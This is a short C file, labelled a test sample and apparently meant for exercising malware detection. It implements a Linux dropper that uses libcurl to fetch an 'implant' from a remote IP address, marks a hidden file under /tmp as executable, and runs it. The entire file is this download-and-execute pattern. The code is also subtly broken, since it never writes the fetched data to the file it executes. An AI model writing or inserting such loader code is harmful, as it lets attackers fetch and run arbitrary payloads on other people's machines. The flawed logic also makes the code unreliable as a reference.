/* Test sample: a Linux downloader built on libcurl that runs what it fetched. */
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

typedef void CURL;
extern CURL *curl_easy_init(void);
extern int curl_easy_setopt(CURL *, int, ...);
extern int curl_easy_perform(CURL *);

int main(void) {
    CURL *c = curl_easy_init();
    curl_easy_setopt(c, 10002, "http://198.51.100.20/implant");
    curl_easy_perform(c);
    chmod("/tmp/.implant", 0755);
    execl("/tmp/.implant", "implant", (char *)0);
    return 0;
}
